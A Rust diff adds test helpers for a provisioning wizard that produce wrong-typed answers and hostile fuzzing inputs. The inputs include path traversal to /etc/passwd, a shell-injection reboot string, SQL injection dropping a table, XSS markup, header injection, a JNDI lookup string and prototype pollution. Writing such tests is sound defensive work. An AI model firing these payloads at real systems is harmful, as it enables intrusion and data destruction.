@@ -1,0 +1,116 @@
+//! Values that are of the wrong type for a question, and values that nobody
+//! expects as an answer to any.
+
+use provision_core::wizard::questions::{Kind, Question};
+use serde_json::{Value, json};
+
+/// Answers of the wrong type for `question`, each with what it is; none where
+/// the question's kind is not known. Where answers become text (not `typed`),
+/// texts are left, and those that are no text of the kind.
+pub(super) fn wrong(question: &Question, typed: bool) -> Vec<(&'static str, Value)> {
+    let Some(kind) = question.answer() else {
+        return Vec::new();
+    };
+    let mut values = match kind {
+        Kind::Text => vec![
+            ("a number for a text", json!(7)),
+            ("a boolean for a text", json!(true)),
+            ("a list for a text", json!(["x"])),
+            ("an object for a text", json!({ "a": 1 })),
+        ],
+        Kind::Bool => vec![
+            ("a text for a boolean", json!("perhaps")),
+            ("a number for a boolean", json!(7)),
+            ("a list for a boolean", json!([])),
+        ],
+        Kind::Number | Kind::Integer => vec![
+            ("a text for a number", json!("seven")),
+            ("a boolean for a number", json!(true)),
+            ("a list for a number", json!([])),
+        ],
+        Kind::Choice => vec![("what is no choice", json!("no-such-choice"))],
+        Kind::List => vec![
+            ("a number for a list", json!(7)),
+            ("an object for a list", json!({ "a": 1 })),
+        ],
+        Kind::Object => vec![
+            ("a number for an object", json!(7)),
+            ("a list for an object", json!([1])),
+        ],
+    };
+    if kind == Kind::Integer {
+        values.push(("a fraction for a whole number", json!(1.5)));
+    }
+    if kind == Kind::Choice && question.options.is_empty() {
+        values.clear();
+    }
+    if question.required {
+        values.push(("null for a required answer", Value::Null));
+    }
+    if !typed {
+        values.retain(|(_, value)| value.is_string() && kind != Kind::Text);
+    }
+    values
+}
+
+/// Values that nobody expects, each with what it is: empty, `longest` bytes
+/// long, `deepest` levels deep, odd Unicode, boundary numbers, and the shapes
+/// of injections.
+pub(super) fn hostile(longest: usize, deepest: usize) -> Vec<(&'static str, Value)> {
+    let deep = (0..deepest).fold(json!(1), |inner, _| json!([inner]));
+    let text = |text: &str| Value::String(text.to_owned());
+    vec![
+        ("an empty text", text("")),
+        ("nothing but blanks", text(" \t\r\n ")),
+        (
+            "a text as long as can be",
+            Value::String("a".repeat(longest)),
+        ),
+        ("a value as deep as can be", deep),
+        ("a text with NUL", text("a\0b")),
+        (
+            "a text that turns right to left",
+            text("a\u{202e}b\u{2066}"),
+        ),
+        (
+            "a text of combining marks",
+            text(&"e\u{301}\u{327}".repeat(64)),
+        ),
+        (
+            "a text beyond the first plane",
+            text("\u{1f469}\u{200d}\u{1f680}\u{10ffff}\u{feff}"),
+        ),
+        ("quotes and backslashes", text(r#""'`\","a":{"b":"#)),
+        (
+            "a template",
+            text("{{secrets.token}}{{#each this}}${env.HOME}#{7*7}<%= 7 %>"),
+        ),
+        ("a path that leaves", text("../../../../etc/passwd")),
+        ("a shell's command", text("; $(reboot) `reboot` | reboot &")),
+        ("an SQL quote", text("' OR '1'='1'; DROP TABLE tenants; --")),
+        (
+            "markup",
+            text("<script>alert(1)</script><img src=x onerror=alert(1)>"),
+        ),
+        (
+            "a header's end",
+            text("https://a.invalid\r\nSet-Cookie: a=b"),
+        ),
+        ("a lookup", text("${jndi:ldap://a.invalid/x}%s%n%x")),
+        ("the least whole number", json!(i64::MIN)),
+        ("the greatest whole number", json!(u64::MAX)),
+        (
+            "a number past exact floats",
+            json!(9_007_199_254_740_993_u64),
+        ),
+        ("the greatest float", json!(f64::MAX)),
+        ("the least float", json!(5e-324)),
+        ("minus zero", json!(-0.0)),
+        ("an empty list", json!([])),
+        ("an empty object", json!({})),
+        (
+            "a prototype",
+            json!({ "__proto__": { "admin": true }, "constructor": {} }),
+        ),
+    ]
+}
